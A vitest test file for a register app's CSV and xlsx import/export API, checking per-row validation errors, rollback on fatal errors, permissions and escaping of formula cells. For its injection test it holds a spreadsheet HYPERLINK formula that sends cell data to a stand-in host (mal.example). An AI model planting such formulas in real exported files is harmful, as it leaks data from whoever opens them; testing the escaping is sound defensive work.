import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { startTestServer, type TestServer } from '../../helpers/test-server';
import { list } from './register-test-kit';

/**
 * CSV import and export of registers (seed 000 §7): per-row errors in meta.hasErrors +
 * data.message, nothing half-imported on a fatal error, formula cells escaped against CSV
 * injection, and an exported file that imports back.
 */
let t: TestServer;
let admin: string;

beforeAll(async () => {
  t = await startTestServer();
  admin = await t.tokenFor('acme', 'acme-admin');
});
afterAll(() => t?.close());

/** A multipart/form-data body with one file part (and optional fields), as a browser sends it. */
function multipart(fileName: string, content: string, fields: Record<string, string> = {}) {
  const boundary = '----registrosBoundary7MA4YWxk';
  let body = '';
  for (const [name, value] of Object.entries(fields)) body += `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
  body += `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: text/csv\r\n\r\n${content}\r\n--${boundary}--\r\n`;
  return { body, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

function importCsv(collection: string, fileName: string, content: string, fields: Record<string, string> = {}) {
  const { body, headers } = multipart(fileName, content, fields);
  return t.api(`/api/${collection}/import`, { method: 'POST', token: admin, body, headers });
}

/** A binary answer (xlsx, PDF); the default tenant (acme) answers on the bare address. */
async function bytesOf(path: string, method = 'GET'): Promise<{ status: number; type: string | null; bytes: Buffer }> {
  const res = await fetch(`${t.baseUrl}${path}`, { method, headers: { authorization: `Bearer ${admin}` } });
  return { status: res.status, type: res.headers.get('content-type'), bytes: Buffer.from(await res.arrayBuffer()) };
}

const contactsNamed = async (prefix: string) => (await t.server.db('contacts').where('display_name', 'like', `${prefix}%`).whereNull('deleted_at')).length;

describe('POST /api/{collection}/import', () => {
  it('imports the valid rows and reports each bad row by line in meta.hasErrors + data.message', async () => {
    const csv = [
      'displayName;phone;email;channels;active',
      'Lote A Um;+55 (11) 97777-0001;um@exemplo.com;whatsapp;sim',
      ';5511977770002;;webchat;sim',
      'Lote A Três;12ab;nao-e-email;whatsapp;não',
      'Lote A Quatro;;;webchat|whatsapp;',
    ].join('\n');
    const res = await importCsv('contacts', 'contatos.csv', csv);
    expect(res.status).toBe(200);
    expect(res.body.meta).toEqual({ hasErrors: true, imported: 2, failed: 2, total: 4 });
    expect(res.body.data.errors).toEqual([
      { line: 3, errors: [{ field: 'displayName', message: 'Informe o nome de exibição' }] },
      { line: 4, errors: expect.arrayContaining([{ field: 'phone', message: 'Informe um número valido' }, { field: 'email', message: 'Informe um e-mail válido' }]) },
    ]);
    expect(res.body.data.message).toMatch(/^2 registro\(s\) importado\(s\); 2 linha\(s\) com erro: Linha 3: Informe o nome de exibição; Linha 4: /);
    const stored = await list(t, admin, 'contacts', { filter: { q: 'lote a' }, sort: ['displayName', 'ASC'] });
    expect(stored.body.map((c: { displayName: string; phone: string | null; channels: string[]; active: boolean }) => [c.displayName, c.phone, c.channels, c.active])).toEqual([
      ['Lote A Quatro', null, ['webchat', 'whatsapp'], true],
      ['Lote A Um', '5511977770001', ['whatsapp'], true],
    ]);
  });

  it('answers meta.hasErrors false and the success message when every row is valid', async () => {
    const res = await importCsv('contacts', 'ok.csv', 'displayName,channels\nLote B Um,webchat\nLote B Dois,whatsapp\n');
    expect(res.status).toBe(200);
    expect(res.body.meta).toMatchObject({ hasErrors: false, imported: 2, failed: 0 });
    expect(res.body.data.message).toBe('2 registro(s) importado(s) com sucesso.');
  });

  it('imports nothing on a fatal error: unknown column, broken quoting, no rows, not a .csv', async () => {
    const before = await t.server.db('contacts').count({ n: '*' }).first();
    const unknown = await importCsv('contacts', 'x.csv', 'displayName;senha\nLote C Um;123\n');
    expect(unknown.status).toBe(400);
    expect(unknown.body.errorMessage).toBe('Coluna desconhecida no arquivo: senha. Baixe o modelo CSV.');
    const broken = await importCsv('contacts', 'x.csv', 'displayName;channels\n"Lote C Dois;webchat\nLote C Três;webchat\n');
    expect(broken.status).toBe(400);
    expect(broken.body.errorMessage).toMatch(/^Arquivo CSV inválido: /);
    const empty = await importCsv('contacts', 'x.csv', 'displayName;channels\n');
    expect(empty.status).toBe(400);
    expect(empty.body.errorMessage).toBe('O arquivo não tem linhas para importar.');
    const notCsv = await importCsv('contacts', 'x.txt', 'displayName\nLote C Quatro\n');
    expect(notCsv.status).toBe(400);
    expect(notCsv.body.errorMessage).toBe('Somente arquivos .csv são aceitos.');
    const noFile = await t.api('/api/contacts/import', { method: 'POST', token: admin, ...multipartWithoutFile() });
    expect(noFile.status).toBe(400);
    expect(noFile.body.errorMessage).toBe('Informe o arquivo a ser importado');
    expect(await t.server.db('contacts').count({ n: '*' }).first()).toEqual(before);
    expect(await contactsNamed('Lote C')).toBe(0);
  });

  it('refuses an import to a caller who may not write the register, before reading the file', async () => {
    const agent = await t.tokenFor('acme', 'acme-suporte');
    const { body, headers } = multipart('x.csv', 'displayName;channels\nLote D;webchat\n');
    const res = await t.api('/api/contacts/import', { method: 'POST', token: agent, body, headers });
    expect(res.status).toBe(403);
    expect(await contactsNamed('Lote D')).toBe(0);
  });
});

function multipartWithoutFile() {
  const boundary = '----semarquivo';
  return { body: `--${boundary}\r\nContent-Disposition: form-data; name="active"\r\n\r\ntrue\r\n--${boundary}--\r\n`, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

describe('GET /api/{collection}/getRawCsvDataReport', () => {
  const FORMULAS = ['=HYPERLINK("http://mal.example/?x="&A1;"clique")', '+5511999990000', '-2+3', '@SUM(1;2)'];

  it('escapes every cell that starts with = + - or @, and the file imports back as it was', async () => {
    const created: string[] = [];
    for (const [i, formula] of FORMULAS.entries()) {
      const res = await t.api('/api/contacts', { method: 'POST', token: admin, body: { displayName: `Fórmula ${i}`, name: formula, vendId: formula, channels: ['webchat'] } });
      expect(res.status, JSON.stringify(res.body)).toBe(201);
      created.push(res.body.id);
    }
    const res = await t.api(`/api/contacts/getRawCsvDataReport?filter=${encodeURIComponent(JSON.stringify({ q: 'fórmula' }))}`, { token: admin });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename=".+\.csv"$/);
    const rows = parse(res.text.replace(/^\ufeff/, ''), { delimiter: ';', columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(FORMULAS.length);
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
    }
    const names = rows.map((r) => r.name).sort();
    expect(names).toEqual(FORMULAS.map((f) => `'${f}`).sort());
    // A phone-like value keeps its digits: '+55... is text in a spreadsheet, not a sum.
    expect(rows.find((r) => r.displayName === 'Fórmula 1')!.name).toBe("'+5511999990000");

    // The exported file imports back: the ' prefix is taken off again.
    await t.api('/api/contacts/remove', { method: 'PATCH', token: admin, body: created });
    const back = await importCsv('contacts', 'exportado.csv', res.text.replace(/^\ufeff/, ''));
    expect(back.status).toBe(200);
    expect(back.body.meta).toMatchObject({ hasErrors: false, imported: FORMULAS.length });
    const again = await list(t, admin, 'contacts', { filter: { q: 'fórmula' } });
    expect(again.body.map((c: { name: string }) => c.name).sort()).toEqual([...FORMULAS].sort());
  });

  it('escapes formulas in the xlsx export too, and prints the list as a real PDF', async () => {
    const filter = encodeURIComponent(JSON.stringify({ q: 'fórmula' }));
    const xlsx = await bytesOf(`/api/contacts/getXlsxDataReport?filter=${filter}`);
    expect(xlsx.status).toBe(200);
    expect(xlsx.type).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.bytes as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    const texts: string[] = [];
    sheet.eachRow((row, n) => {
      if (n === 1) return;
      row.eachCell((cell) => {
        expect(cell.formula, String(cell.value)).toBeUndefined();
        if (typeof cell.value === 'string') texts.push(cell.value);
      });
    });
    expect(texts).toEqual(expect.arrayContaining(FORMULAS.map((f) => `'${f}`)));
    for (const text of texts) expect(text).not.toMatch(/^[=+\-@\t\r]/);

    const pdf = await bytesOf(`/api/contacts/getDataReport?filter=${filter}`, 'POST');
    expect(pdf.status).toBe(200);
    expect(pdf.type).toBe('application/pdf');
    expect(pdf.bytes.subarray(0, 5).toString('latin1')).toBe('%PDF-');
    expect(pdf.bytes.subarray(-8).toString('latin1')).toContain('%%EOF');
  });

  it('serves the per-register CSV template with the import columns', async () => {
    const res = await t.api('/api/contacts/csvTemplate', { token: admin });
    expect(res.status).toBe(200);
    const header = res.text.replace(/^\ufeff/, '').split(/\r?\n/)[0]!.split(';');
    expect(header).toEqual(expect.arrayContaining(['displayName', 'phone', 'email', 'channels']));
    expect(header).not.toContain('id');
  });
});
